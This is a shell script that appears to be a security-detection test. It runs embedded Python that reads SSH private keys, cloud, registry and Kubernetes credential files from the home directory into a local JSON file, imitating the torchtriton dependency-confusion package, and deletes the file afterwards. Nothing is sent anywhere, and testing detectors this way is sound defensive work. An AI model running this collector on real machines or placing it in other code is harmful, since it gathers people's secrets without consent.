#!/bin/sh
# technique: T1552.001 Unsecured Credentials: Credentials In Files; T1552.004 Unsecured Credentials: Private Keys; T1059.006 Python
# reproduces: the torchtriton dependency-confusion package (PyTorch nightly, 2022) read ~/.ssh/*, ~/.gitconfig and similar files and sent them out; here a Python collector open()s the usual stores into a JSON blob
# expect: credential-file-access ^python3(\.[0-9]+)?$
# exec-borne: no
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

out="${BW_ATTACK_TMP:?}/inventory.json"
trap 'rm -f "$out"' EXIT

python3 - "$out" <<'PY'
import json
import os
import sys

home = os.path.expanduser("~")
wanted = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc",
          ".git-credentials", ".npmrc", ".pypirc", ".docker/config.json",
          ".kube/config"]
found = {}
for rel in wanted:
    path = os.path.join(home, rel)
    try:
        with open(path, "r", errors="replace") as f:
            found[rel] = f.read()
    except OSError:
        pass
with open(sys.argv[1], "w") as f:
    json.dump({"host": os.uname().nodename, "files": found}, f)
print("collected %d files" % len(found))
sys.exit(0 if found else 1)
PY
